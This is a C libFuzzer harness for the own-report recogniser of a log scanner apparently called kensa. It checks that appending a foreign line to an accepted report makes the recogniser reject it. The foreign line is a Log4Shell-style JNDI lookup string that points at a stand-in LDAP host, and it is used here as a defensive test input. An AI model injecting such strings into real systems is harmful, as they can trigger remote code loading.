/*
 * fuzz_ownreport.c - libFuzzer harness for the recogniser of kensa's own
 * reports (lib/detect/own_report.c): whatever a log holds, it reads
 * within the bytes and says yes only to kensa's records.  A yes is
 * checked against a second reading: the same bytes with a foreign line
 * appended must be a no (one line not kensa's and the file is scanned).
 */
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include "detect/own_report.h"

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
    static const char foreign[] = "x ${jndi:ldap://e.example/a}\n";
    if(!own_report_is(data, size) || !size)
        return 0;
    uint8_t *more = malloc(size + 1 + sizeof(foreign));
    if(!more)
        return 0;
    memcpy(more, data, size);
    size_t n = size;
    if(data[size - 1] != '\n')
        more[n++] = '\n';
    memcpy(more + n, foreign, sizeof(foreign) - 1);
    n += sizeof(foreign) - 1;
    if(own_report_is(more, n))
        abort();   /* a real log line hidden behind kensa's records */
    free(more);
    return 0;
}
